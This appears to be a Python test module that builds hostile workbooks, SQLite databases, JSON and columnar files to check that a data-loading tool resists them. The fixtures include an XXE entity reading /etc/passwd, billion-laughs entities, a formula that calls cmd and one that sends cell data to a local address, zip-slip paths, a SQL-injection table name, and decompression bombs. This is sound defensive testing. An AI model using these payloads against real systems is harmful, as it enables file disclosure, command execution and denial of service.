"""Tables of strangers in formats with machinery: workbooks, databases, columnar files, JSON."""

from __future__ import annotations

import json
import sqlite3
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.corpus import written
from tests.hostile.case import Case
from tests.hostile.dropped import dropped, of_bytes

_ROWS: list[list[Case]] = [["x", "y"], *([i, 2 * i + 0.5] for i in range(40))]
_READ = (0,)
_EITHER = (0, 2)
_BOUND = "Expected|samples"
_DTD = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)
_OUT = '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>'


# Workbooks ------------------------------------------------------------------------------------------------


def _book(text: str | Callable[[], str], more: Mapping[str, bytes] | None = None) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        sheet = text() if callable(text) else text
        return written.excel(folder / "t.xlsx", {"Sheet1": sheet}, more)

    return make


def _inflated(folder: Path) -> Path:
    """A sheet of a gigabyte of spaces in a megabyte."""
    path = written.excel(folder / "t.xlsx", {"Sheet1": written.sheet(_ROWS)})
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as file,
    ):
        file.write(b"<worksheet>")
        for _ in range(64):
            file.write(b" " * (16 << 20))
    data = path.read_bytes()
    return _swapped(path, data)


def _swapped(path: Path, data: bytes) -> Path:
    """The workbook with its second sheet in the place of its first."""
    path.write_bytes(data.replace(b"sheet1.xml", b"sheet0.xml").replace(b"sheet2.xml", b"sheet1.xml"))
    return path


def _far(folder: Path) -> Path:
    """One cell in the last row and column that there can be."""
    sheet = written.sheet(_ROWS).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    return written.excel(folder / "t.xlsx", {"Sheet1": sheet})


def _many_rows() -> str:
    return written.sheet([["x", "y"], *([1, 2] for _ in range(300_000))])


def _books() -> list[Case]:
    text = written.sheet(_ROWS)
    marked = written.sheet(_ROWS, before=_DTD).replace("<v>3</v>", "<v>&j;</v>", 1)
    outside = written.sheet(_ROWS, before=_OUT).replace(
        '<c r="A5"><v>3</v></c>', '<c r="A5" t="inlineStr"><is><t>&out;</t></is></c>'
    )
    formula = text.replace("<v>3</v>", '<f>HYPERLINK("http://127.0.0.1:9/"&amp;A1)</f><v>3</v>', 1)
    call = text.replace("<v>3</v>", "<f>cmd|' /C calc'!A0</f><v>3</v>", 1)
    links = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="http://127.0.0.1:9/x.xlsx" TargetMode="External"/></Relationships>'
    )
    rule = "workbook"
    return [
        dropped(rule, "a gigabyte of spaces in a sheet", _inflated, "Expected", seconds=12.0),
        dropped(rule, "a cell in the last row and column", _far, _BOUND, exits=_EITHER),
        dropped(rule, "300,000 rows", _book(_many_rows), _BOUND, exits=_EITHER, seconds=60.0),
        dropped(
            rule, "entities that unfold a billion times", _book(marked), _BOUND, exits=_EITHER, is_quick=True
        ),
        dropped(
            rule, "an entity that names a file of the system", _book(outside), "^(?!.*root:)", exits=_EITHER
        ),
        dropped(rule, "formulas with addresses", _book(formula), "samples", exits=_READ),
        dropped(rule, "formulas that call a program", _book(call), "samples", exits=_READ),
        dropped(
            rule,
            "links to other workbooks",
            _book(text, {"xl/externalLinks/_rels/externalLink1.xml.rels": links}),
            "samples",
            exits=_READ,
        ),
        dropped(
            rule,
            "macros",
            _book(text, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(999)}),
            "samples",
            exits=_READ,
        ),
        dropped(
            rule,
            "parts with paths out of the folder",
            _book(text, {"../../../../tmp/layerloom-evil": b"x", "/etc/evil": b"x"}),
            _BOUND,
            exits=_EITHER,
        ),
        dropped(
            rule,
            "a million words in one cell",
            _book(lambda: text.replace("<v>3</v>", f"<v>{'1' * 9_000_000}</v>", 1)),
            _BOUND,
            exits=_EITHER,
            seconds=5.0,
        ),
        dropped(rule, "no end of the sheet", _book(text[: len(text) // 2]), _BOUND, exits=_EITHER),
        dropped(
            rule,
            "a zip that is cut",
            of_bytes("t.xlsx", b"PK\x03\x04" + bytes(400)),
            "Expected",
            is_quick=True,
        ),
        dropped(rule, "words", of_bytes("t.xlsx", b"these are words " * 90), "Expected"),
    ]


# Databases ------------------------------------------------------------------------------------------------


def _database(script: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        columns = {"x": [row[0] for row in _ROWS[1:]], "y": [row[1] for row in _ROWS[1:]]}
        return written.database(folder / "t.db", {"houses": columns}, script)

    return make


def _schema(sql: str, kind: str = "table") -> Callable[[Path], Path]:
    """A database whose schema says this, though no statement could have made it."""

    def make(folder: Path) -> Path:
        path = _database("")(folder)
        file = sqlite3.connect(path)
        file.execute("PRAGMA writable_schema = ON")
        file.execute("INSERT INTO sqlite_master VALUES (?, 'houses2', 'houses2', 2, ?)", (kind, sql))
        file.commit()
        file.close()
        return path

    return make


def _flipped(folder: Path) -> Path:
    path = _database("")(folder)
    data = bytearray(path.read_bytes())
    data[4096:4200] = bytes(range(104))
    path.write_bytes(data)
    return path


def _hot(folder: Path) -> Path:
    """A journal beside the database, which would be played back into it."""
    path = _database("")(folder)
    (folder / "t.db-journal").write_bytes(bytes.fromhex("d9d505f920a163d7") + bytes(5000))
    return path


def _databases() -> list[Case]:
    endless = (
        "CREATE VIEW a AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
        "SELECT i, i AS y FROM n;"
    )
    trigger = "CREATE TRIGGER t BEFORE UPDATE ON houses BEGIN DELETE FROM houses; END;"
    large = "UPDATE houses SET x = zeroblob(300000000) WHERE rowid = 3;"
    tables = "".join(f"CREATE TABLE t{i} (a, b);" for i in range(3000))
    name = '"x""; DROP TABLE houses; --"'
    named = f"CREATE TABLE {name} (a, b); INSERT INTO {name} VALUES (1, 2);"
    head = b"SQLite format 3\0"
    rule = "database"
    return [
        dropped(rule, "a view without end", _database(endless), "samples", exits=_READ),
        dropped(
            rule,
            "a view without end and nothing else",
            _database(endless + "DROP TABLE houses;"),
            _BOUND,
            exits=_EITHER,
        ),
        dropped(rule, "a trigger", _database(trigger), "samples", exits=_READ),
        dropped(rule, "a value of 300 MB", _database(large), _BOUND, exits=_EITHER),
        dropped(rule, "3,000 tables", _database(tables), _BOUND, exits=_EITHER),
        dropped(rule, "a name that is a statement", _database(named), "samples", exits=_EITHER),
        dropped(
            rule,
            "a virtual table",
            _schema("CREATE VIRTUAL TABLE houses2 USING fts5(x)"),
            _BOUND,
            exits=_EITHER,
        ),
        dropped(
            rule,
            "a virtual table of a file",
            _schema("CREATE VIRTUAL TABLE houses2 USING csv(filename='/etc/passwd')"),
            "^(?!.*root:)",
            exits=_EITHER,
        ),
        dropped(rule, "a schema of noise", _schema("CREATE TABLE ((((("), _BOUND, exits=_EITHER),
        dropped(rule, "a damaged page", _flipped, _BOUND, exits=_EITHER),
        dropped(rule, "a hot journal", _hot, _BOUND, exits=_EITHER),
        dropped(rule, "a head alone", of_bytes("t.db", head + bytes(84)), "Expected"),
        dropped(rule, "words", of_bytes("t.sqlite", b"these are words " * 90), "Expected"),
    ]


# JSON and columnar files ----------------------------------------------------------------------------------


def _json() -> list[Case]:
    def lines(count: int, line: Callable[[int], str]) -> Callable[[], bytes]:
        return lambda: "\n".join(map(line, range(count))).encode()

    rule = "JSON"
    plain = '{"x": 1.5, "y": 2}\n' * 20
    return [
        dropped(
            rule,
            "a line of 200 MB",
            of_bytes("t.jsonl", lambda: b'{"x": "' + b"a" * (200 << 20) + b'"}\n'),
            "Expected",
            seconds=4.0,
        ),
        dropped(
            rule, "100,000 brackets", of_bytes("t.jsonl", b"[" * 100_000 + b"\n"), "Expected", is_quick=True
        ),
        dropped(
            rule,
            "100,000 objects in objects",
            of_bytes("t.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
            "Expected",
        ),
        dropped(
            rule,
            "another key in each of 100,000 lines",
            of_bytes("t.jsonl", lines(100_000, lambda i: json.dumps({f"k{i}": i, "y": i}))),
            _BOUND,
            exits=_EITHER,
            seconds=8.0,
        ),
        dropped(
            rule,
            "a number of 100,000 digits",
            of_bytes("t.jsonl", (plain + '{"x": ' + "9" * 100_000 + ', "y": 1}\n').encode()),
            _BOUND,
            exits=_EITHER,
        ),
        dropped(
            rule,
            "1e999",
            of_bytes("t.jsonl", (plain + '{"x": 1e999, "y": 1}\n').encode()),
            _BOUND,
            exits=_EITHER,
        ),
        dropped(
            rule, "NaN", of_bytes("t.jsonl", (plain + '{"x": NaN, "y": 1}\n').encode()), _BOUND, exits=_EITHER
        ),
        dropped(rule, "NULs", of_bytes("t.jsonl", bytes(5000)), "Expected"),
        dropped(
            rule,
            "half a character",
            of_bytes("t.jsonl", (plain + '{"x": "\\ud800", "y": 1}\n').encode()),
            _BOUND,
            exits=_EITHER,
        ),
        dropped(
            rule,
            "a key twice",
            of_bytes("t.jsonl", (plain + '{"x": 1, "x": 2, "y": 1}\n').encode()),
            _BOUND,
            exits=_EITHER,
        ),
        dropped(rule, "6 GB without an end", _sparse("t.jsonl"), "Expected", seconds=3.0, megabytes=300),
        dropped(rule, "6 GB called .json", _sparse("t.json"), "Expected", seconds=3.0, megabytes=300),
    ]


def _sparse(name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        with (folder / name).open("wb") as file:
            file.truncate(6 << 30)
        return folder / name

    return make


def _constant(folder: Path) -> Path:
    """Three hundred million equal numbers in a small file."""
    import pyarrow
    from pyarrow import parquet

    part = pyarrow.table(
        {"x": pyarrow.array([1.0]).take(pyarrow.array([0] * 1_000_000)), "y": [2.0] * 1_000_000}
    )
    with parquet.ParquetWriter(folder / "t.parquet", part.schema) as writer:
        for _ in range(150):
            writer.write_table(part)
    return folder / "t.parquet"


def _words_elsewhere(folder: Path) -> Path:
    """Words of five letters, of which the second is said to end a gigabyte behind the file."""
    columns = {"word": [f"word{i % 3}" for i in range(40)], "y": list(range(40))}
    path = written.columnar(folder / "t.arrow", columns)
    data = path.read_bytes()
    right, wrong = struct.pack("<4i", 0, 5, 10, 15), struct.pack("<4i", 0, 5, 1 << 30, 15)
    assert right in data
    path.write_bytes(data.replace(right, wrong))
    return path


def _columnar(name: str, change: Callable[[bytes], bytes]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        columns = {"x": [row[0] for row in _ROWS[1:]], "y": [row[1] for row in _ROWS[1:]]}
        path = written.columnar(folder / name, columns)
        path.write_bytes(change(path.read_bytes()))
        return path

    return make


def _files() -> list[Case]:
    found: list[Case] = [
        dropped(
            "columnar",
            "150 million equal rows in a small Parquet file",
            _constant,
            _BOUND,
            exits=_EITHER,
            seconds=60.0,
            megabytes=9000,
        )
    ]
    found.append(
        dropped("columnar", "words that lie behind the file", _words_elsewhere, "Expected", is_quick=True)
    )
    for name in ("t.parquet", "t.arrow"):
        changes: dict[str, Callable[[bytes], bytes]] = {
            "cut": lambda data: data[: len(data) * 2 // 3],
            "a footer that lies": lambda data: data[:-8] + b"\xff\xff\xff\x7f" + data[-4:],
            "a head alone": lambda data: data[:8],
            "noise between its marks": lambda data: (
                data[:8] + bytes((i * 37) % 256 for i in range(len(data) - 16)) + data[-8:]
            ),
            "words": lambda data: b"these are words " * 90,
            "nothing": lambda data: b"",
        }
        found += [
            dropped(
                "columnar",
                f"{name[2:]}: {what}",
                _columnar(name, change),
                "Expected",
                is_quick=what == "noise between its marks",
            )
            for what, change in changes.items()
        ]
        found.append(
            dropped(
                "columnar",
                f"{name[2:]}: zeros in the middle",
                _columnar(name, lambda data: data[:40] + bytes(60) + data[100:]),
                _BOUND,
                exits=_EITHER,
            )
        )
    return found


CASES = (*_books(), *_databases(), *_json(), *_files())
